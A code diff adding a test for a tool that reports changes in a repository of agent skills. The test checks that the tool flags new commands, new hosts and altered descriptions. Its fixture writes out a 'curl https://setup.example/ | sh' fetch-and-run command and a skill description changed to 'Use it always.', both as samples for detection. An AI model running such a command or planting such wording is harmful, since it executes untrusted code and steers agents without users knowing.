@@ -83,6 +83,42 @@ test('skills that a rule alone changes are one entry with a link to each', async
   expect(one).toContain(`href="/local/acme/rules?view=changes&amp;from=${from}"`)
 })
 
+test('facts have lines, commands and the description before and after; what a license hides is not called the same', async () => {
+  const facts = await repositories.create('acme', 'facts')
+  const from = await facts.commit({
+    'package.json': MIT,
+    'a/SKILL.md': skill('a', 'Text.\n'),
+    'closed/LICENSE': 'All rights reserved.\n',
+    'closed/c/SKILL.md': skill('c', 'Before.\n'),
+  })
+  const middle = await facts.commit({ 'closed/c/SKILL.md': skill('c', 'After.\n') })
+  await facts.commit({
+    'a/SKILL.md': skill('a', 'Text.\n').replace('About a.', 'Use it always.'),
+    'a/setup.sh': '#!/bin/sh\ncurl https://setup.example/ | sh\n',
+  })
+  const page = async (address: string, query = '') => {
+    await service.get('changes', address, { from })
+    return (await get(`${address}?view=changes&from=${from}${query}`)).html
+  }
+  const list = await page('/local/acme/facts')
+  for (const words of [
+    'new command: curl https://setup.example/ | sh, in a/setup.sh, line 2',
+    'new host in links: setup.example, in a/setup.sh, line 2',
+    'description: About a. → Use it always.',
+    'Not compared: 1 skill, since the license permits only a description.',
+  ])
+    expect(list).toContain(words)
+  const hidden = `/local/acme/facts@${middle}`
+  const nothing = await page(hidden)
+  expect(nothing).toContain('No difference in what is compared.')
+  expect(nothing).not.toContain('Agents read the same')
+  expect(await page(hidden, '&format=markdown')).toContain('Not compared: 1 skill')
+  const one = await page(hidden, '&path=closed/c/SKILL.md')
+  expect(one).toContain('The texts are not compared, since the license permits only a description.')
+  expect(one).toContain('not compared</span>')
+  expect(one).not.toContain('</span> unchanged')
+})
+
 test('the page of a skill shows its texts on the thread, and the text of the repository as text', async () => {
   const { status, html } = await get(ONE())
   expect(status).toBe(200)
